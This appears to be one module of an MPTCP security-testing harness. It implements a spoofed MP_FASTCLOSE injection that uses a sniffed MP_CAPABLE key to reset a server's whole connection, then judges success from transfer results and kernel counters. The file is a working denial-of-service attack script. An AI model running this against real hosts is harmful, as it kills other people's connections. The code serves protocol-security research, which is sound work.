"""Attack 4b, MP_FASTCLOSE injection: kill the whole MPTCP connection.

Source: RFC 8684 §3.5 and §5: MP_FASTCLOSE is "authenticated" only by carrying the receiver's key, which an
attacker who sniffed the MP_CAPABLE handshake knows (RFC 7430, "Eavesdropper in the Initial Handshake"). The
attacker forges an in-window ACK from the client to the server carrying MP_FASTCLOSE(Key-server); the server
resets every subflow and the connection.

Effect measured: the server's application sees the connection end early (reset or short stream) and the client's
writes fail; MPTcpExtMPFastcloseRx counts it on the server.
"""

from __future__ import annotations

from mptcrypt.attacks.common import ACK, mptcp_opt, spoof_to_server
from mptcrypt.attacks.judging import decide
from mptcrypt.attacks.runner import Evidence, Verdict
from mptcrypt.wire.mptcp import MptcpOption

NUMBER = 4
TITLE = "MP_FASTCLOSE with the sniffed key"
SOURCE = "RFC 8684 §3.5, §5; RFC 7430 (eavesdropper in the initial handshake)"


def attack(agent) -> dict:
    v = agent.view
    if not v.keys_known:
        return {"skipped": "MP_CAPABLE keys not seen"}
    opt = mptcp_opt(MptcpOption.mp_fastclose(v.key_server))
    tries = agent.strike(lambda: spoof_to_server(v, ACK, [opt]), None, "ACK + MP_FASTCLOSE", tries=3,
                         key=v.key_server.hex())
    return {"tries_until_dead": tries}


def judge(ev: Evidence) -> Verdict:
    t = ev.transfer
    up = t["upload"]
    evidence = {
        "server_read": f"{up['bytes_received']}/{up['bytes_expected']} B, eof={up['eof']}",
        "MPTcpExt": {h: {k: ev.counter(h, k) for k in ("MPFastcloseRx", "MPFastcloseTx", "MPRstRx")
                         if ev.counter(h, k)} for h in ("client", "server")},
    }
    effective = t["connection_died"] and not up["complete"]
    return decide(ev, effective, f"connection killed: server read {up['bytes_received']} of "
                  f"{up['bytes_expected']} bytes", "MP_FASTCLOSE dropped: the connection lived", evidence)
